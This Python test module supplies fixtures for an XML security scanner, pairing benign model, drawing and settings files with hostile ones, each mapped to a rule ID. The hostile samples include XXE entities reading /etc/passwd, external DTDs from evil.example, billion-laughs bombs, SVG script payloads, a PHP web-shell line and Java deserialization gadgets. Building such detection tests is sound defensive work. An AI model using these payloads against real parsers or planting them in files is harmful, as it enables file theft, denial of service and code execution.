# ruff: noqa: E501 - one hostile file a line
"""Hostile XML: models (PMML, OpenVINO), drawings, settings. Inert: nothing is expanded or opened."""


def graph(layers: str = "", *, before: str = "", after: str = "") -> bytes:
    return f'<?xml version="1.0"?>\n{before}<net name="m" version="11"><layers>{layers}</layers>{after}</net>\n'.encode()


def constant(offset: str = "0", size: str = "48", shape: str = "4, 3", kind: str = "f32", **more: str) -> str:
    extra = "".join(f' {k}="{v}"' for k, v in more.items())
    return (
        f'<layer id="1" name="c" type="Const" version="opset1"><data element_type="{kind}" shape="{shape}" '
        f'offset="{offset}" size="{size}"{extra}/></layer>'
    )


def layer(kind: str = "ReLU", version: str = "opset1", data: str = "") -> str:
    return f'<layer id="2" name="l" type="{kind}" version="{version}"><data {data}/></layer>'


def pmml(inside: str = "", *, before: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'
        f'<Header copyright="me"/><DataDictionary/>{inside}<RegressionModel functionName="regression"/></PMML>'
    ).encode()


def svg(inside: str = "", attributes: str = "", before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<svg xmlns="http://www.w3.org/2000/svg"{attributes}>{inside}</svg>'.encode()


def note(inside: str = "", before: str = "", attributes: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<note{attributes}>{inside}</note>'.encode()


LAUGHS = '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
XXE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
W3 = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
SOUND = {
    "graph": graph(constant() + layer()),
    "graph-sets": graph(layer(version="opset13") + layer(version="ie_internal_opset")),
    "graph-scalar": graph(constant(shape="", size="4") + constant(shape="3", kind="u4", size="2")),
    "graph-notes": graph(after='<rt_info><info name="conversion" value="DIR/model.onnx"/></rt_info>'),
    "pmml": pmml(),
    "pmml-functions": pmml('<TransformationDictionary><DefineFunction name="f" optype="continuous"><Apply function="+"/></DefineFunction></TransformationDictionary>'),
    "pmml-extension": pmml('<Extension name="radial" value="0.5" extender="R"/>'),
    "svg": svg('<path d="M 0 0"/><a href="#x">t</a>', before=W3),
    "comment-and-cdata": note("<![CDATA[a < b && c]]><!-- <script> -->&amp;&#65;&#x42;"),
    "utf-16": ("\ufeff" + note("é").decode().replace("?>", ' encoding="UTF-16"?>', 1)).encode("utf-16-le"),
    "latin-1": b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
    "bom": b"\xef\xbb\xbf" + note("x"),
    "plist": note(before='<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'),
    "cascade": b"<?xml version='1.0'?><opencv_storage><cascade type_id=\"opencv-cascade-classifier\"><stageType>BOOST</stageType><_>\n 3 7 -1.</_></cascade></opencv_storage>",
}  # fmt: skip
CASES: dict[str, tuple[bytes, str]] = {
    "unclosed": (b"<a><b></b>", "WGH-XM001"),
    "crossed": (b"<a><b></a></b>", "WGH-XM001"),
    "two-roots": (b"<?xml version='1.0'?><a/><b/>", "WGH-XM001"),
    "text-after": (b"<a/>os.system", "WGH-XM001"),
    "no-value": (b"<a b/>", "WGH-XM001"),
    "less-in-value": (b'<a b="<"/>', "WGH-XM001"),
    "zero-byte": (b"<a>\0</a>", "WGH-XM001"),
    "late-doctype": (b"<a><!DOCTYPE a></a>", "WGH-XM001"),
    "cut": (pmml()[:-9], "WGH-XM001"),
    "laughs": (note("&c;", LAUGHS), "WGH-XM002"),
    "laughs-unused": (note("", LAUGHS), "WGH-XM002"),
    "laughs-in-a-graph": (graph(before=LAUGHS), "WGH-XM002"),
    "laughs-in-a-drawing": (svg("&c;", before=LAUGHS), "WGH-XM002"),
    "xxe": (note("&x;", XXE), "WGH-XM002"),
    "xxe-in-a-pmml": (pmml("&x;", before=XXE), "WGH-XM002"),
    "xxe-public": (note("", '<!DOCTYPE r [<!ENTITY x PUBLIC "a" "http://evil.example/x">]>'), "WGH-XM002"),
    "xxe-parameter": (note("", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'), "WGH-XM002"),
    "xxe-by-address": (note("", '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">'), "WGH-XM002"),
    "xxe-by-path": (note("", '<!DOCTYPE r SYSTEM "../../x.dtd">'), "WGH-XM002"),
    "xxe-behind-a-comment": (note("", '<!DOCTYPE r [<!-- ]> --><!ENTITY x SYSTEM "file:///etc/passwd">]>'), "WGH-XM002"),
    "xxe-in-utf-16": (note("", XXE).decode().encode("utf-16"), "WGH-XM002"),
    "doctype-in-a-graph": (graph(before="<!DOCTYPE net>"), "WGH-XM002"),
    "doctype-in-a-pmml": (pmml(before='<!DOCTYPE PMML PUBLIC "a" "http://www.w3.org/x.dtd">'), "WGH-XM002"),
    "deep": (b"<a>" * 5000, "WGH-XM003"),
    "many-attributes": (b"<a " + b" ".join(b'a%d="1"' % n for n in range(3000)) + b"/>", "WGH-XM003"),
    "doctype-huge": (note("", "<!DOCTYPE r [" + '<!ENTITY a "b">' * 6000 + "]>"), "WGH-XM003"),
    "svg-script": (svg("<script>alert(1)</script>"), "WGH-XM004"),
    "svg-onload": (svg(attributes=' onload="alert(1)"'), "WGH-XM004"),
    "svg-javascript": (svg('<a href="java&#x73;cript:alert(1)">x</a>'), "WGH-XM004"),
    "svg-xlink": (svg('<a xlink:href=" javascript:alert(1)">x</a>'), "WGH-XM004"),
    "php": (note("<?php system($_GET[0]); ?>"), "WGH-XM004"),
    "xslt-java": (b'<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>', "WGH-XM004"),
    "graph-extension": (graph(layer("Evil", "extension")), "WGH-XM005"),
    "graph-custom-set": (graph(layer("Evil", "evil_opset")), "WGH-XM005"),
    "graph-kernel": (graph(after='<CustomLayer name="x"><Kernel entry="k"/></CustomLayer>'), "WGH-XM005"),
    "pmml-class": (pmml('<Apply function="com.example.Evil"/>'), "WGH-XM005"),
    "offset-negative": (graph(constant(offset="-8")), "WGH-XM006"),
    "offset-absurd": (graph(constant(offset=str(2**60))), "WGH-XM006"),
    "size-absurd": (graph(constant(size=str(2**63))), "WGH-XM006"),
    "size-no-number": (graph(constant(size="0x30")), "WGH-XM006"),
    "size-too-small": (graph(constant(size="4")), "WGH-XM006"),
    "shape-negative": (graph(constant(shape="-4, 3")), "WGH-XM006"),
    "shape-overflows": (graph(constant(shape="4294967296, 4294967296")), "WGH-XM006"),
    "size-too-large": (graph(constant(size="480")), "WGH-XM007"),
    "utf-7": (b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-', "WGH-XM008"),
    "utf-32": (note().decode().encode("utf-32"), "WGH-XM008"),
    "ebcdic": (note().decode().encode("cp037"), "WGH-XM008"),
    "include": (note('<xi:include href="file:///etc/passwd"/>', attributes=' xmlns:xi="http://www.w3.org/2001/XInclude"'), "WGH-XM009"),
    "include-in-a-pmml": (pmml('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'), "WGH-XM009"),
    "style": (note(before='<?xml-stylesheet href="http://evil.example/x.xsl"?>'), "WGH-XM010"),
    "decoder": (b'<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>', "WGH-XM011"),
    "xstream": (b'<?xml version="1.0"?><set><handler class="java.beans.EventHandler"/></set>', "WGH-XM011"),
    "xstream-element": (b'<?xml version="1.0"?><map><java.lang.ProcessBuilder/></map>', "WGH-XM011"),
    "pmml-extension-code": (pmml("<Extension>import os; os.system('true')</Extension>"), "WGH-XM011"),
    "pmml-extension-value": (pmml('<Extension name="x" value="eval(1)"/>'), "WGH-XM011"),
    "pmml-extension-script": (pmml("<Extension><![CDATA[<script>x</script>]]></Extension>"), "WGH-XM011"),
    "pmml-runtime": (pmml('<Apply function="java.lang.Runtime.exec"/>'), "WGH-XM011"),
    "graph-code": (graph(layer(data='code="__import__(1)"')), "WGH-XM011"),
    "entity-undeclared": (note("&secret;  and some more text behind it"), "WGH-XM013"),
    "attribute-twice": (b'<a b="1" b="2"/>', "WGH-XM014"),
    "attribute-twice-in-a-graph": (graph(layer(data='a="1" a="2"')), "WGH-XM014"),
    "entity-plain": (svg("&n;", before='<!DOCTYPE svg [<!ENTITY n "http://x/">]>'), "WGH-XM015"),
    "doctype-beside": (note("", '<!DOCTYPE r SYSTEM "r.dtd">'), "WGH-XM015"),
    "graph-library": (graph(layer(data='library="/tmp/evil.so"')), "WGH-XM016"),
    "graph-library-windows": (graph(layer(data='path="..\\evil.dll"')), "WGH-XM016"),
    "graph-extension-library": (graph(after='<extensions><extension path="libevil.so"/></extensions>'), "WGH-XM016"),
}  # fmt: skip
"""Name → the file and the rule it breaks."""
CASES |= {
    "doctype-published": (SOUND["svg"], "WGH-XM012"),
    "pmml-extension-noted": (SOUND["pmml-extension"], "WGH-XM017"),
}
NAMES = {n: f"model.{'svg' if n.startswith('svg') else 'xml'}" for n in (*CASES, *SOUND)}
